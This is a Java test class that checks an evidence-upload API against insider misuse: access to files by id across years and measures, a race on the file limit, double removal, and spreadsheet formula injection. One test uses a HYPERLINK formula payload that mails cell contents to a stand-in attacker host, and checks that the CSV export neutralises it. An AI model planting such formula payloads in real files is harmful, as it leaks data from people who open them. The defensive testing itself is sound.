package uk.quarterlyreturns.returns.api;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.concurrent.CyclicBarrier;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.context.ApplicationContext;
import org.springframework.http.ResponseEntity;
import uk.quarterlyreturns.base.tabular.TabularWriter;
import uk.quarterlyreturns.returns.Evidence;
import uk.quarterlyreturns.returns.EvidenceChecks;
import uk.quarterlyreturns.returns.EvidenceFile;
import uk.quarterlyreturns.returns.ReturnTrail;
import uk.quarterlyreturns.returns.TrailTable;
import uk.quarterlyreturns.support.Api;
import uk.quarterlyreturns.support.ApplicationTest;
import uk.quarterlyreturns.support.ReturnScenario;

/** The evidence as an insider would try it: ids of files they may not read, a race on the limit, a hostile name. */
class EvidenceMisuseTest extends ApplicationTest {

    private static final byte[] NOTE = "Counted by hand".getBytes(StandardCharsets.UTF_8);

    @Autowired ApplicationContext context;
    @Autowired Evidence evidence;
    @Autowired ReturnTrail trail;

    /** The path names a measure the caller may read; the id is of a file of another year's return or measure. */
    @Test
    void aFileOfAnotherYearOrMeasureIsNotServedThroughAPathTheCallerMayRead() throws Exception {
        ReturnScenario mine = ReturnScenario.open(context, 5310);
        ReturnScenario other = ReturnScenario.open(context, 5311);
        EvidenceFile kept = evidence.add(mine.housing.id(), mine.measureId("HF-1"), "mine.txt", NOTE, "data.housing");
        EvidenceFile otherYear = evidence.add(other.housing.id(), other.measureId("HF-1"), "other.txt",
                "Another year's count".getBytes(StandardCharsets.UTF_8), "data.housing");
        EvidenceFile otherMeasure = evidence.add(mine.housing.id(), mine.measureId("HF-2"), "hf2.txt",
                "Households".getBytes(StandardCharsets.UTF_8), "data.housing");
        String path = "/api/years/" + mine.year + "/quarters/2/measures/HF-1/evidence/";

        for (String who : List.of("data.housing", "admin", "ceo")) {
            assertThat(api(who).getBytes(path + kept.id()).getStatusCode().value()).as(who).isEqualTo(200);
            for (EvidenceFile notHere : List.of(otherYear, otherMeasure)) {
                ResponseEntity<byte[]> got = api(who).getBytes(path + notHere.id());
                assertThat(got.getStatusCode().value()).as(who + " asks for " + notHere.fileName()).isEqualTo(404);
                assertThat(new String(got.getBody(), StandardCharsets.UTF_8)).doesNotContain("Another year",
                        "Households");
            }
        }
        assertThat(api("reader").getBytes(path + kept.id()).getStatusCode().value()).isEqualTo(403);
    }

    /** Tabs adding a tenth, an eleventh, ... file at once: the return's row lock lets one in, then refuses the rest. */
    @Test
    void filesAddedAtOnceToNineKeptMakeTenNotMore() throws Exception {
        ReturnScenario scenario = ReturnScenario.open(context, 5312);
        long hf1 = scenario.measureId("HF-1");
        for (int i = 1; i < EvidenceChecks.MAX_FILES; i++) {
            evidence.add(scenario.housing.id(), hf1, "count-" + i + ".txt", NOTE, "data.housing");
        }
        int tabCount = 6;
        CyclicBarrier together = new CyclicBarrier(tabCount);
        List<String> refused = Collections.synchronizedList(new ArrayList<>());
        ExecutorService tabs = Executors.newFixedThreadPool(tabCount);
        try {
            List<Future<?>> added = new ArrayList<>();
            for (int tab = 0; tab < tabCount; tab++) {
                String who = tab % 2 == 0 ? "data.housing" : "dir.housing";
                String name = who + "-" + tab + ".txt";
                added.add(tabs.submit(() -> {
                    together.await(10, TimeUnit.SECONDS);
                    try {
                        evidence.add(scenario.housing.id(), hf1, name, NOTE, who);
                    } catch (IllegalArgumentException e) {
                        refused.add(e.getMessage());
                    }
                    return null;
                }));
            }
            for (Future<?> f : added) {
                f.get(30, TimeUnit.SECONDS);
            }
        } finally {
            tabs.shutdownNow();
        }
        assertThat(evidence.of(hf1, 2)).hasSize(EvidenceChecks.MAX_FILES);
        assertThat(refused).hasSize(tabCount - 1).allMatch(m -> m.equals("HF-1 already has 10 evidence files this"
                + " quarter: remove one before adding another"));
    }

    /**
     * Two tabs removing the same file: the second is told it has gone, and the history has one entry. A file of
     * another year's return, named to this return's removal, is not removed.
     */
    @Test
    void aFileRemovedInTwoTabsOrNamedToAnotherReturnIsRemovedOnceOrNotAtAll() throws Exception {
        ReturnScenario scenario = ReturnScenario.open(context, 5314);
        ReturnScenario other = ReturnScenario.open(context, 5315);
        EvidenceFile kept = evidence.add(scenario.housing.id(), scenario.measureId("HF-1"), "count.txt", NOTE,
                "data.housing");
        EvidenceFile theirs = evidence.add(other.housing.id(), other.measureId("HF-1"), "theirs.txt", NOTE,
                "data.housing");

        evidence.remove(scenario.housing.id(), kept.id(), "dir.housing");
        assertThatThrownBy(() -> evidence.remove(scenario.housing.id(), kept.id(), "data.housing"))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessage("That file is no longer among the return's evidence");
        assertThatThrownBy(() -> evidence.remove(scenario.housing.id(), theirs.id(), "dir.housing"))
                .isInstanceOf(IllegalArgumentException.class);

        assertThat(trail.history(scenario.housing.id())).filteredOn(e -> Evidence.REMOVED.equals(e.kind()))
                .hasSize(1);
        assertThat(evidence.of(other.measureId("HF-1"), 2)).extracting(EvidenceFile::fileName)
                .containsExactly("theirs.txt");
    }

    /** A name written as a formula reaches the history's CSV as text, and its XLSX as a text cell. */
    @Test
    void aFileNamedAsAFormulaIsTextInTheHistorysExports() throws Exception {
        ReturnScenario scenario = ReturnScenario.open(context, 5313);
        String name = "=HYPERLINK(\"mailto:x@evil.test?body=\"&A1,\"Open\").txt";
        evidence.add(scenario.housing.id(), scenario.measureId("HF-1"), name, NOTE, "data.housing");

        List<List<Object>> rows = TrailTable.rows(trail.history(scenario.housing.id()));
        String csv = new String(TabularWriter.csv(TrailTable.COLUMNS, rows), StandardCharsets.UTF_8);

        assertThat(csv).contains("\"'=HYPERLINK(\"\"mailto:x@evil.test?body=\"\"&A1,\"\"Open\"\").txt (15 bytes,")
                .doesNotContain(",\"=HYPERLINK").doesNotContain(",=HYPERLINK");
    }

    private Api api(String who) {
        return new Api(url(""), who, "demo");
    }
}
